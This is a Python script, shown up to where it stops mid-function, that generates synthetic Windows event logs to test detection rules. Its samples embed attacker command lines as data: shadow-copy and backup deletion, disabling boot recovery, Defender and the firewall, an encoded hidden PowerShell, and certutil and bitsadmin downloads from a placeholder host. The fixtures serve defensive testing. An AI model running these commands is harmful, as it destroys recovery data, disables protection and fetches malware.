"""Writes the generated samples of the rule-pack tests (see README.md): Windows events as the
``evtx`` parser gives them (``evtx_dump -o jsonl``: one ``{"Event": ...}`` document per line),
Zeek JSON logs, and the web bursts that are too long to write by hand.

Run from the repository root after changing it: ``.venv/bin/python
tests/data/rule_pack/make_samples.py``. The output is deterministic (a seeded generator, gzip
without a time stamp); ``tests/detection/test_rule_pack_samples.py`` checks that the files in
the tree are what this script writes.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import random
import string
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent

# -- Windows -------------------------------------------------------------------------------------

#: (provider name, provider GUID, channel), as the real records of these providers carry them.
SYSMON = (
    "Microsoft-Windows-Sysmon",
    "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
    "Microsoft-Windows-Sysmon/Operational",
)
SECURITY = (
    "Microsoft-Windows-Security-Auditing",
    "54849625-5478-4994-A5BA-3E3B0328C30D",
    "Security",
)
EVENTLOG = ("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", "Security")
DEFENDER = (
    "Microsoft-Windows-Windows Defender",
    "11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78",
    "Microsoft-Windows-Windows Defender/Operational",
)

#: Version information Sysmon reads from the image: description, original file name.
IMAGES = {
    "vssadmin.exe": (
        "Command Line Interface for Microsoft® Volume Shadow Copy Service ",
        "VSSADMIN.EXE",
    ),
    "wmic.exe": ("WMI Commandline Utility", "wmic.exe"),
    "bcdedit.exe": ("Boot Configuration Data Editor", "bcdedit.exe"),
    "wbadmin.exe": ("Command Line Interface for Microsoft® BLB Backup", "WBADMIN.EXE"),
    "certutil.exe": ("CertUtil.exe", "CertUtil.exe"),
    "bitsadmin.exe": ("BITS administration utility", "bitsadmin.exe"),
    "mshta.exe": ("Microsoft (R) HTML Application host", "MSHTA.EXE"),
    "powershell.exe": ("Windows PowerShell", "PowerShell.EXE"),
    "cmd.exe": ("Windows Command Processor", "Cmd.Exe"),
    "netsh.exe": ("Network Command Shell", "netsh.exe"),
    "sc.exe": ("Service Control Manager Configuration Tool", "sc.exe"),
    "net.exe": ("Net Command", "net.exe"),
    "reg.exe": ("Registry Console Tool", "reg.exe"),
    "wscript.exe": ("Microsoft ® Windows Based Script Host", "wscript.exe"),
    "rundll32.exe": ("Windows host process (Rundll32)", "RUNDLL32.EXE"),
    "splwow64.exe": ("Print driver host for applications", "splwow64.exe"),
    "notepad.exe": ("Notepad", "NOTEPAD.EXE"),
    "WINWORD.EXE": ("Microsoft Word", "WinWord.exe"),
    "EXCEL.EXE": ("Microsoft Excel", "Excel.exe"),
    "msedge.exe": ("Microsoft Edge", "msedge.exe"),
    "invoice_0314.exe": ("?", "?"),
}

SYSTEM32 = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
EXPLORER = "C:\\Windows\\explorer.exe"


def guid(rng: random.Random) -> str:
    h = "".join(rng.choice("0123456789ABCDEF") for _ in range(32))
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def windows_event(
    provider: tuple[str, str, str],
    event_id: int,
    when: datetime,
    record: int,
    computer: str,
    *,
    data: dict[str, Any] | None = None,
    user_data: dict[str, Any] | None = None,
    version: int = 0,
    level: int = 0,
    task: int = 0,
    keywords: str = "0x8020000000000000",
    user: str | None = None,
    process: tuple[int, int] = (664, 712),
) -> dict[str, Any]:
    """One record in the ``evtx`` parser's shape (System, then EventData or UserData)."""
    name, provider_guid, channel = provider
    system = {
        "Provider": {"#attributes": {"Name": name, "Guid": provider_guid}},
        "EventID": event_id,
        "Version": version,
        "Level": level,
        "Task": task,
        "Opcode": 0,
        "Keywords": keywords,
        "TimeCreated": {"#attributes": {"SystemTime": iso(when)}},
        "EventRecordID": record,
        "Correlation": None,
        "Execution": {"#attributes": {"ProcessID": process[0], "ThreadID": process[1]}},
        "Channel": channel,
        "Computer": computer,
        "Security": {"#attributes": {"UserID": user}} if user else None,
    }
    event: dict[str, Any] = {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": system,
    }
    if data is not None:
        event["EventData"] = data
    if user_data is not None:
        event["UserData"] = user_data
    return {"Event": event}


def iso(when: datetime) -> str:
    return when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


class Host:
    """A Windows host writing records: record numbers and process ids that only grow."""

    def __init__(self, computer: str, user: str, start: datetime, seed: int) -> None:
        self.computer = computer
        self.user = user  # DOMAIN\name
        self.when = start
        self.rng = random.Random(seed)
        self.sysmon_record = 40_000 + seed * 13
        self.security_record = 900_000 + seed * 17
        self.logon = guid(self.rng)

    def tick(self, seconds: float) -> datetime:
        self.when += timedelta(seconds=seconds)
        return self.when

    def hashes(self, image: str) -> str:
        digest = hashlib.sha256(image.lower().encode()).hexdigest().upper()
        md5 = hashlib.md5(image.lower().encode()).hexdigest().upper()
        return f"MD5={md5},SHA256={digest},IMPHASH={md5[::-1]}"

    def sysmon_process(
        self, image: str, command: str, parent: str, parent_command: str, *, seconds: float = 7
    ) -> dict[str, Any]:
        """Sysmon 1 (process creation), schema 4.90 as Sysmon 15 writes it."""
        when = self.tick(seconds)
        self.sysmon_record += 1
        name = image.rsplit("\\", 1)[-1]
        description, original = IMAGES.get(name, ("?", "?"))
        company = "?" if description == "?" else "Microsoft Corporation"
        return windows_event(
            SYSMON,
            1,
            when,
            self.sysmon_record,
            self.computer,
            version=5,
            level=4,
            task=1,
            keywords="0x8000000000000000",
            user="S-1-5-18",
            process=(3168, 4580),
            data={
                "RuleName": "-",
                "UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                "ProcessGuid": guid(self.rng),
                "ProcessId": self.rng.randrange(1000, 12000, 4),
                "Image": image,
                "FileVersion": "?" if description == "?" else "10.0.19041.1 (WinBuild.160101.0800)",
                "Description": description,
                "Product": "?" if description == "?" else "Microsoft® Windows® Operating System",
                "Company": company,
                "OriginalFileName": original,
                "CommandLine": command,
                "CurrentDirectory": f"C:\\Users\\{self.user.split(chr(92))[1]}\\",
                "User": self.user,
                "LogonGuid": self.logon,
                "LogonId": "0x3e1c5a",
                "TerminalSessionId": 1,
                "IntegrityLevel": "High",
                "Hashes": self.hashes(image),
                "ParentProcessGuid": guid(self.rng),
                "ParentProcessId": self.rng.randrange(1000, 12000, 4),
                "ParentImage": parent,
                "ParentCommandLine": parent_command,
                "ParentUser": self.user,
            },
        )

    def security_process(
        self, image: str, command: str, parent: str, *, seconds: float = 7
    ) -> dict[str, Any]:
        """Security 4688 (a new process has been created), version 2 with the command line."""
        when = self.tick(seconds)
        self.security_record += 1
        domain, name = self.user.split("\\")
        return windows_event(
            SECURITY,
            4688,
            when,
            self.security_record,
            self.computer,
            version=2,
            task=13312,
            process=(4, 7564),
            data={
                "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
                "SubjectUserName": name,
                "SubjectDomainName": domain,
                "SubjectLogonId": "0x3e1c5a",
                "NewProcessId": hex(self.rng.randrange(1000, 12000, 4)),
                "NewProcessName": image,
                "TokenElevationType": "%%1937",
                "ProcessId": hex(self.rng.randrange(1000, 12000, 4)),
                "CommandLine": command,
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": "-",
                "TargetDomainName": "-",
                "TargetLogonId": "0x0",
                "ParentProcessName": parent,
                "MandatoryLabel": "S-1-16-12288",
            },
        )

    def sysmon_registry(self, image: str, target: str, details: str) -> dict[str, Any]:
        """Sysmon 13 (registry value set)."""
        when = self.tick(5)
        self.sysmon_record += 1
        return windows_event(
            SYSMON,
            13,
            when,
            self.sysmon_record,
            self.computer,
            version=2,
            level=4,
            task=13,
            keywords="0x8000000000000000",
            user="S-1-5-18",
            process=(3168, 4580),
            data={
                "RuleName": "-",
                "EventType": "SetValue",
                "UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                "ProcessGuid": guid(self.rng),
                "ProcessId": self.rng.randrange(1000, 12000, 4),
                "Image": image,
                "TargetObject": target,
                "Details": details,
                "User": self.user,
            },
        )

    def security(
        self, event_id: int, data: dict[str, Any], *, seconds: float = 5, task: int = 12544
    ) -> dict[str, Any]:
        when = self.tick(seconds)
        self.security_record += 1
        keywords = "0x8010000000000000" if event_id == 4625 else "0x8020000000000000"
        return windows_event(
            SECURITY,
            event_id,
            when,
            self.security_record,
            self.computer,
            task=task,
            keywords=keywords,
            process=(664, 712),
            data=data,
        )


def logon(
    event_id: int,
    user: str,
    domain: str,
    logon_type: int,
    process_name: str,
    package: str,
    ip: str,
    *,
    workstation: str = "-",
    caller: str = "-",
    subject: tuple[str, str, str] = ("S-1-0-0", "-", "-"),
) -> dict[str, Any]:
    """EventData of 4624 (version 2) or 4625 (version 0), fields in the order Windows writes."""
    sid, subject_name, subject_domain = subject
    if event_id == 4625:
        return {
            "SubjectUserSid": sid,
            "SubjectUserName": subject_name,
            "SubjectDomainName": subject_domain,
            "SubjectLogonId": "0x0" if sid == "S-1-0-0" else "0x3e7",
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": user,
            "TargetDomainName": domain,
            "Status": "0xc000006d",
            "FailureReason": "%%2313",
            "SubStatus": "0xc000006a",
            "LogonType": logon_type,
            "LogonProcessName": process_name,
            "AuthenticationPackageName": package,
            "WorkstationName": workstation,
            "TransmittedServices": "-",
            "LmPackageName": "-",
            "KeyLength": 0,
            "ProcessId": "0x0" if caller == "-" else "0x2c8",
            "ProcessName": caller,
            "IpAddress": ip,
            "IpPort": "0" if ip in ("-", "127.0.0.1", "::1") else "52814",
        }
    return {
        "SubjectUserSid": sid,
        "SubjectUserName": subject_name,
        "SubjectDomainName": subject_domain,
        "SubjectLogonId": "0x0" if sid == "S-1-0-0" else "0x3e1c5a",
        "TargetUserSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
        "TargetUserName": user,
        "TargetDomainName": domain,
        "TargetLogonId": "0x5e2f0a1",
        "LogonType": logon_type,
        "LogonProcessName": process_name,
        "AuthenticationPackageName": package,
        "WorkstationName": workstation,
        "LogonGuid": "00000000-0000-0000-0000-000000000000",
        "TransmittedServices": "-",
        "LmPackageName": "NTLM V2" if package == "NTLM" else "-",
        "KeyLength": 0,
        "ProcessId": "0x0" if caller == "-" else "0x3ec",
        "ProcessName": caller,
        "IpAddress": ip,
        "IpPort": "0" if ip in ("-", "127.0.0.1", "::1") else "52814",
        "ImpersonationLevel": "%%1833",
        "RestrictedAdminMode": "-",
        "TargetOutboundUserName": "-",
        "TargetOutboundDomainName": "-",
        "VirtualAccount": "%%1843",
        "TargetLinkedLogonId": "0x0",
        "ElevatedToken": "%%1842",
    }


T0 = datetime(2026, 3, 14, 6, 0, 0, 120_431, tzinfo=UTC)


def windows_samples() -> dict[str, list[dict[str, Any]]]:
    files: dict[str, list[dict[str, Any]]] = {}
    cmd = SYSTEM32 + "cmd.exe"
    ps = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"

    h = Host("FIN-PC07.akimat.local", "AKIMAT\\d.sarsenov", T0, 1)
    files["shadow_copy_deletion"] = [
        # fires
        h.sysmon_process(
            SYSTEM32 + "vssadmin.exe",
            "vssadmin.exe  delete shadows /all /quiet",
            cmd,
            'cmd.exe /c "vssadmin.exe delete shadows /all /quiet"',
        ),
        h.security_process(
            SYSTEM32 + "wbem\\WMIC.exe", "wmic  shadowcopy delete /nointeractive", cmd
        ),
        h.sysmon_process(
            SYSTEM32 + "vssadmin.exe",
            "vssadmin  resize shadowstorage /for=C: /on=C: /maxsize=401MB",
            cmd,
            "cmd.exe /c vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
        ),
        h.sysmon_process(
            ps,
            'powershell.exe -nop -c "Get-WmiObject Win32_Shadowcopy | '
            'ForEach-Object {$_.Delete();}"',
            cmd,
            "cmd.exe /c run.bat",
        ),
        # near
        h.sysmon_process(
            cmd, 'cmd.exe /c "vssadmin.exe delete shadows /all /quiet"', EXPLORER, EXPLORER
        ),
        h.sysmon_process(SYSTEM32 + "vssadmin.exe", "vssadmin  list shadows", cmd, "cmd.exe"),
        h.security_process(
            SYSTEM32 + "wbem\\WMIC.exe", "wmic  shadowcopy call create Volume='C:\\'", cmd
        ),
        h.sysmon_process(
            SYSTEM32 + "vssadmin.exe",
            "vssadmin  resize shadowstorage /for=C: /on=C: /maxsize=15%",
            cmd,
            "cmd.exe",
        ),
        h.sysmon_process(
            ps,
            'powershell.exe -c "Get-WmiObject Win32_ShadowCopy | Select-Object ID, InstallDate"',
            EXPLORER,
            EXPLORER,
        ),
    ]

    h = Host("FIN-PC07.akimat.local", "AKIMAT\\d.sarsenov", T0 + timedelta(minutes=5), 2)
    bcdedit = SYSTEM32 + "bcdedit.exe"
    files["inhibit_system_recovery"] = [
        # fires
        h.sysmon_process(
            bcdedit,
            "bcdedit.exe  /set {default} recoveryenabled no",
            cmd,
            'cmd.exe /c "bcdedit.exe /set {default} recoveryenabled no"',
        ),
        h.sysmon_process(
            bcdedit,
            "bcdedit.exe  /set {default} bootstatuspolicy ignoreallfailures",
            cmd,
            "cmd.exe /c run.bat",
        ),
        h.security_process(SYSTEM32 + "wbadmin.exe", "wbadmin  delete catalog -quiet", cmd),
        # near
        h.sysmon_process(
            bcdedit, "bcdedit.exe  /set {default} recoveryenabled yes", cmd, "cmd.exe"
        ),
        h.sysmon_process(
            bcdedit,
            "bcdedit.exe  /set {current} bootstatuspolicy displayallfailures",
            cmd,
            "cmd.exe",
        ),
        h.sysmon_process(bcdedit, "bcdedit.exe  /enum all", cmd, "cmd.exe"),
        h.security_process(SYSTEM32 + "wbadmin.exe", "wbadmin  get versions", cmd),
        h.security_process(
            SYSTEM32 + "wbadmin.exe",
            "wbadmin  delete systemstatebackup -keepversions:3 -quiet",
            cmd,
        ),
    ]

    h = Host("HR-PC12.akimat.local", "AKIMAT\\a.nurpeisova", T0 + timedelta(minutes=10), 3)
    files["lolbin_download"] = [
        # fires
        h.sysmon_process(
            SYSTEM32 + "certutil.exe",
            "certutil.exe  -urlcache -split -f http://198.51.100.9/p.exe C:\\Users\\Public\\p.exe",
            cmd,
            "cmd.exe /c x",
        ),
        h.sysmon_process(
            SYSTEM32 + "bitsadmin.exe",
            "bitsadmin.exe  /transfer upd /download "
            "/priority high https://198.51.100.9/u.ps1 C:\\Windows\\Temp\\u.ps1",
            cmd,
            "cmd.exe /c x",
        ),
        h.security_process(
            SYSTEM32 + "bitsadmin.exe",
            "bitsadmin.exe  /addfile upd http://198.51.100.9/u2.ps1 C:\\Windows\\Temp\\u2.ps1",
            cmd,
        ),
        h.sysmon_process(
            SYSTEM32 + "mshta.exe",
            '"C:\\Windows\\System32\\mshta.exe" https://198.51.100.9/talsk.txt',
            SYSTEM32 + "rundll32.exe",
            "rundll32.exe javascript:...",
        ),
        # near
        h.sysmon_process(
            SYSTEM32 + "certutil.exe", "certutil.exe  -urlcache * delete", cmd, "cmd.exe"
        ),
        h.sysmon_process(
            SYSTEM32 + "certutil.exe",
            "certutil.exe  -hashfile C:\\Users\\a.nurpeisova\\Downloads\\setup.msi SHA256",
            cmd,
            "cmd.exe",
        ),
        h.security_process(
            SYSTEM32 + "bitsadmin.exe", "bitsadmin.exe  /list /allusers /verbose", cmd
        ),
        h.sysmon_process(
            SYSTEM32 + "mshta.exe",
            '"C:\\Windows\\System32\\mshta.exe" '
            '"C:\\Program Files (x86)\\Kazpost\\Tracker\\launcher.hta"',
            EXPLORER,
            EXPLORER,
        ),
        h.sysmon_process(
            EDGE, f'"{EDGE}" --single-argument https://egov.kz/cms/ru', EXPLORER, EXPLORER
        ),
    ]

    h = Host("HR-PC12.akimat.local", "AKIMAT\\a.nurpeisova", T0 + timedelta(minutes=15), 4)
    word, excel = OFFICE + "WINWORD.EXE", OFFICE + "EXCEL.EXE"
    files["office_script_host"] = [
        # fires
        h.sysmon_process(
            ps,
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            word,
            f'"{word}" /n "C:\\Users\\a.nurpeisova\\Downloads\\order.doc" /o ""',
        ),
        h.sysmon_process(
            cmd,
            'cmd.exe /c "certutil -decode %TEMP%\\a.txt %TEMP%\\a.exe"',
            excel,
            f'"{excel}" "C:\\Users\\a.nurpeisova\\Downloads\\salary_2026.xls"',
        ),
        h.security_process(
            SYSTEM32 + "rundll32.exe",
            "rundll32.exe C:\\Users\\Public\\u.dll,DllRegisterServer",
            word,
        ),
        # near
        h.sysmon_process(
            SYSTEM32 + "splwow64.exe",
            "C:\\Windows\\splwow64.exe 12288",
            word,
            f'"{word}" /n "C:\\Users\\a.nurpeisova\\Documents\\report.docx"',
        ),
        h.sysmon_process(EDGE, f'"{EDGE}" --single-argument https://egov.kz/', excel, f'"{excel}"'),
        h.sysmon_process(
            ps,
            '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
            EXPLORER,
            EXPLORER,
        ),
        h.sysmon_process(
            word,
            f'"{word}" /n "C:\\Users\\a.nurpeisova\\Downloads\\order.docx"',
            EXPLORER,
            EXPLORER,
        ),
    ]

    h = Host("ACC-PC03.akimat.local", "AKIMAT\\b.tulegenova", T0 + timedelta(minutes=20), 5)
    outlook = OFFICE + "OUTLOOK.EXE"
    cache = (
        "C:\\Users\\b.tulegenova\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
        "Content.Outlook\\Q8ZV4W2T\\"
    )
    files["phishing_attachment"] = [
        # fires: Outlook attachment folder
        h.sysmon_process(
            cache + "invoice_0314.exe", f'"{cache}invoice_0314.exe" ', outlook, f'"{outlook}" '
        ),
        h.sysmon_process(
            SYSTEM32 + "wscript.exe",
            f'"C:\\Windows\\System32\\WScript.exe" "{cache}scan_0314.js"',
            outlook,
            f'"{outlook}" ',
        ),
        # fires: HTML application from the browser
        h.sysmon_process(
            SYSTEM32 + "mshta.exe",
            '"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\b.tulegenova\\Downloads\\update.hta" ',
            EXPLORER,
            EXPLORER,
        ),
        h.sysmon_process(
            SYSTEM32 + "mshta.exe",
            '"C:\\Windows\\System32\\mshta.exe" '
            '"C:\\Users\\b.tulegenova\\AppData\\Local\\Temp\\chrome_update.hta" ',
            EDGE,
            f'"{EDGE}" --type=utility',
        ),
        # near
        h.sysmon_process(
            SYSTEM32 + "notepad.exe",
            f'"C:\\Windows\\System32\\NOTEPAD.EXE" {cache}readme.txt',
            outlook,
            f'"{outlook}" ',
        ),
        h.sysmon_process(word, f'"{word}" /n "{cache}letter.docx" /o ""', outlook, f'"{outlook}" '),
        h.sysmon_process(
            SYSTEM32 + "mshta.exe",
            '"C:\\Windows\\System32\\mshta.exe" '
            '"C:\\Program Files (x86)\\Kazpost\\Tracker\\launcher.hta"',
            EXPLORER,
            EXPLORER,
        ),
        h.sysmon_process(
            EDGE,
            f'"{EDGE}" --single-argument C:\\Users\\b.tulegenova\\Downloads\\manual.pdf',
            EXPLORER,
            EXPLORER,
        ),
    ]

    h = Host("ACC-PC03.akimat.local", "AKIMAT\\b.tulegenova", T0 + timedelta(minutes=25), 6)
    policy = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender"
    reg = SYSTEM32 + "reg.exe"
    files["defender_disabled"] = [
        # fires: command line
        h.sysmon_process(
            ps,
            "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
            cmd,
            "cmd.exe /c x.bat",
        ),
        h.sysmon_process(
            ps,
            "powershell.exe -c Set-MpPreference -DisableIOAVProtection 1 "
            "-DisableBehaviorMonitoring 1",
            cmd,
            "cmd.exe /c x.bat",
        ),
        h.security_process(
            reg, f'reg  add "{policy}" /v DisableAntiSpyware /t REG_DWORD /d 1 /f', cmd
        ),
        h.sysmon_process(SYSTEM32 + "sc.exe", "sc  stop WinDefend", cmd, "cmd.exe /c x.bat"),
        h.sysmon_process(
            SYSTEM32 + "sc.exe", "sc  config WinDefend start= disabled", cmd, "cmd.exe /c x.bat"
        ),
        h.sysmon_process(
            ps,
            "powershell.exe Set-MpPreference -DisableRealtimeMonitoring:$true",
            cmd,
            "cmd.exe /c x.bat",
        ),
        # fires: registry
        h.sysmon_registry(reg, f"{policy}\\DisableAntiSpyware", "DWORD (0x00000001)"),
        h.sysmon_registry(
            reg, f"{policy}\\Real-Time Protection\\DisableRealtimeMonitoring", "DWORD (0x00000001)"
        ),
        # near
        h.sysmon_process(
            ps, "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $false", cmd, "cmd.exe"
        ),
        h.sysmon_process(ps, "powershell.exe Update-MpSignature", cmd, "cmd.exe"),
        h.security_process(
            reg, f'reg  add "{policy}" /v DisableAntiSpyware /t REG_DWORD /d 0 /f', cmd
        ),
        h.security_process(reg, f'reg  query "{policy}" /v DisableAntiSpyware', cmd),
        h.sysmon_process(SYSTEM32 + "sc.exe", "sc  query WinDefend", cmd, "cmd.exe"),
        h.sysmon_process(SYSTEM32 + "sc.exe", "sc  config WinDefend start= auto", cmd, "cmd.exe"),
        h.sysmon_registry(reg, f"{policy}\\DisableAntiSpyware", "DWORD (0x00000000)"),
        h.sysmon_registry(
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe",
            "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
            "Binary Data",
        ),
    ]

    h = Host("SRV-APP02.akimat.local", "AKIMAT\\adm.kairat", T0 + timedelta(minutes=30), 7)
    netsh = SYSTEM32 + "netsh.exe"
    files["firewall_tampering"] = [
        # fires
        h.sysmon_process(
            netsh, "netsh  advfirewall set allprofiles state off", cmd, "cmd.exe /c x.bat"
        ),
        h.security_process(netsh, "netsh  firewall set opmode mode=disable", cmd),
        h.sysmon_process(
            netsh,
            'netsh advfirewall firewall add rule name="Remote Desktop" '
            "dir=in protocol=tcp localport=3389 profile=any action=allow",
            "C:\\Users\\adm.kairat\\Desktop\\RDPWrap-v1.6.2\\RDPWInst.exe",
            '"C:\\Users\\adm.kairat\\Desktop\\RDPWrap-v1.6.2\\RDPWInst"  -i -o',
        ),
        h.sysmon_process(
            netsh,
            'netsh  advfirewall firewall set rule group="remote desktop" new enable=Yes',
            cmd,
            "cmd.exe /c x.bat",
        ),
        h.sysmon_process(
            ps,
            "powershell.exe Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
            cmd,
            "cmd.exe /c x.bat",
        ),
        h.sysmon_process(SYSTEM32 + "sc.exe", "sc  stop mpssvc", cmd, "cmd.exe /c x.bat"),
        h.security_process(SYSTEM32 + "net.exe", "net  stop mpssvc /y", cmd),
        # near
        h.sysmon_process(netsh, "netsh  advfirewall set allprofiles state on", cmd, "cmd.exe"),
        h.sysmon_process(netsh, "netsh  advfirewall show allprofiles state", cmd, "cmd.exe"),
        h.sysmon_process(
            netsh,
            'netsh  advfirewall firewall add rule name="HTTPS" dir=in '
            "action=allow protocol=TCP localport=443",
            cmd,
            "cmd.exe",
        ),
        h.sysmon_process(
            netsh,
            'netsh  advfirewall firewall add rule name="Block RDP" dir=in '
            "action=block protocol=TCP localport=3389",
            cmd,
            "cmd.exe",
        ),
        h.sysmon_process(
            netsh,
            'netsh  advfirewall firewall set rule group="remote desktop" new enable=No',
            cmd,
            "cmd.exe",
        ),
        h.sysmon_process(
            ps,
            "powershell.exe Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled True",
            cmd,
            "cmd.exe",
        ),
        h.sysmon_process(SYSTEM32 + "sc.exe", "sc  query mpssvc", cmd, "cmd.exe"),
    ]

    h = Host("HR-PC12.akimat.local", "AKIMAT\\a.nurpeisova", T0 + timedelta(minutes=35), 8)
    files["defender_malware"] = [
        defender(h, 1116),
        defender(h, 1117),
        defender(h, 1000),
        defender(h, 1001),
        defender(h, 2000),
        defender(h, 5007),
    ]

    h = Host("DC01.akimat.local", "AKIMAT\\adm.kairat", T0 + timedelta(minutes=40), 9)
    files["security_log_cleared"] = [
        log_cleared(h),
        # near: the service stopping at shutdown, a full log archived by its policy
        eventlog(
            h,
            1100,
            {
                "ServiceShutdown": {
                    "#attributes": {
                        "xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"
                    }
                }
            },
        ),
        eventlog(
            h,
            1105,
            {
                "AutoBackup": {
                    "#attributes": {
                        "xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"
                    },
                    "Channel": "Security",
                    "BackupPath": "C:\\Windows\\System32\\Winevt\\Logs\\"
                    "Archive-Security-2026-03-14-06-40-12-431.evtx",
                }
            },
        ),
    ]

    files["audit_policy"] = [
        audit_policy(h, "0CCE9215-69AE-11D9-BED3-505054503030", "%%12544", "%%8448"),
        audit_policy(h, "0CCE922B-69AE-11D9-BED3-505054503030", "%%13312", "%%8448, %%8450"),
        # near: group policy turning auditing on (the pattern of the EVTX corpus)
        audit_policy(
            h, "0CCE9215-69AE-11D9-BED3-505054503030", "%%12544", "%%8449, %%8451", subject="DC01$"
        ),
        audit_policy(
            h, "0CCE9244-69AE-11D9-BED3-505054503030", "%%12811", "%%8449", subject="DC01$"
        ),
    ]

    h = Host("SRV-RDS01.akimat.local", "AKIMAT\\adm.kairat", T0 + timedelta(minutes=45), 10)
    files["failed_logon_external"] = [
        # fires: network logon (SMB, RDP with NLA) and RDP without NLA from the internet
        h.security(
            4625,
            logon(
                4625,
                "administrator",
                "SRV-RDS01",
                3,
                "NtLmSsp ",
                "NTLM",
                "203.0.113.60",
                workstation="WIN-8K2M1Q",
            ),
        ),
        h.security(
            4625,
            logon(
                4625,
                "buhgalter",
                "SRV-RDS01",
                10,
                "User32 ",
                "Negotiate",
                "198.51.100.61",
                workstation="SRV-RDS01",
                caller="C:\\Windows\\System32\\svchost.exe",
                subject=("S-1-5-18", "SRV-RDS01$", "AKIMAT"),
            ),
        ),
        # near
        h.security(
            4625,
            logon(
                4625,
                "a.nurpeisova",
                "AKIMAT",
                3,
                "NtLmSsp ",
                "NTLM",
                "10.20.0.15",
                workstation="HR-PC12",
            ),
        ),
        h.security(4625, logon(4625, "svc_backup", "AKIMAT", 3, "NtLmSsp ", "NTLM", "-")),
        h.security(
            4625,
            logon(
                4625,
                "adm.kairat",
                "AKIMAT",
                2,
                "User32 ",
                "Negotiate",
                "127.0.0.1",
                workstation="SRV-RDS01",
                caller="C:\\Windows\\System32\\svchost.exe",
                subject=("S-1-5-18", "SRV-RDS01$", "AKIMAT"),
            ),
        ),
        h.security(
            4624,
            logon(
                4624,
                "adm.kairat",
                "AKIMAT",
                3,
                "NtLmSsp ",
                "NTLM",
                "203.0.113.60",
                workstation="WIN-8K2M1Q",
            ),
        ),
    ]

    h = Host("DC01.akimat.local", "AKIMAT\\adm.kairat", T0 + timedelta(hours=1), 11)
    burst = []
    for n, user in enumerate(
        [
            "a.abenov",
            "b.bekova",
            "d.dosov",
            "e.erlanov",
            "g.galiev",
            "k.kasymova",
            "m.mukanov",
            "n.nurlanova",
            "s.serikov",
            "t.temirov",
        ]
    ):
        burst.append(
            h.security(
                4625,
                logon(
                    4625, user, "AKIMAT", 3, "NtLmSsp ", "NTLM", "10.20.0.66", workstation="HR-PC31"
                ),
                seconds=11 + n,
            )
        )
    burst.append(
        h.security(
            4624,
            logon(
                4624,
                "t.temirov",
                "AKIMAT",
                3,
                "NtLmSsp ",
                "NTLM",
                "10.20.0.66",
                workstation="HR-PC31",
            ),
        )
    )
    h.tick(900)
    for _ in range(9):  # a backup job with a stale stored password, nine retries
        burst.append(
            h.security(
                4625,
                logon(
                    4625,
                    "svc_backup",
                    "AKIMAT",
                    3,
                    "NtLmSsp ",
                    "NTLM",
                    "10.20.0.67",
                    workstation="BKP01",
                ),
                seconds=31,
            )
        )
    burst.append(
        h.security(
            4624,
            logon(
                4624,
                "svc_backup",
                "AKIMAT",
                3,
                "NtLmSsp ",
                "NTLM",
                "10.20.0.67",
                workstation="BKP01",
            ),
            seconds=40,
        )
    )
    files["failed_logon_burst"] = burst

    h = Host("HR-PC12.akimat.local", "AKIMAT\\a.nurpeisova", T0 + timedelta(hours=2), 12)
    me = ("S-1-5-21-3623811015-3361044348-30300820-1013", "a.nurpeisova", "AKIMAT")
    svchost = "C:\\Windows\\System32\\svchost.exe"
    files["pass_the_hash"] = [
        h.security(
            4624,
            logon(
                4624,
                "a.nurpeisova",
                "AKIMAT",
                9,
                "seclogo",
                "Negotiate",
                "::1",
                caller=svchost,
                subject=me,
            ),
        ),
        # near: runas without /netonly, a service impersonating with LogonUser, a share access
        h.security(
            4624,
            logon(
                4624,
                "adm.kairat",
                "AKIMAT",
                2,
                "seclogo",
                "Negotiate",
                "::1",
                caller=svchost,
                subject=me,
            ),
        ),
        h.security(
            4624,
            logon(
                4624,
                "svc_sql",
                "AKIMAT",
                9,
                "Advapi  ",
                "Negotiate",
                "-",
                caller="C:\\Program Files\\Microsoft SQL Server\\MSSQL16."
                "MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
                subject=me,
            ),
        ),
        h.security(
            4624, logon(4624, "a.nurpeisova", "AKIMAT", 3, "Kerberos", "Kerberos", "10.20.0.15")
        ),
    ]
    return files


def defender(h: Host, event_id: int) -> dict[str, Any]:
    """Microsoft Defender Operational events: 1116/1117 (detected, action taken) as the EVTX
    corpus records them; 1000/1001 scan started/finished, 2000 signatures updated, 5007
    configuration changed."""
    when = h.tick(20)
    h.sysmon_record += 1
    common = {"Product Name": "%%827", "Product Version": "4.18.24020.7"}
    if event_id in (1116, 1117):
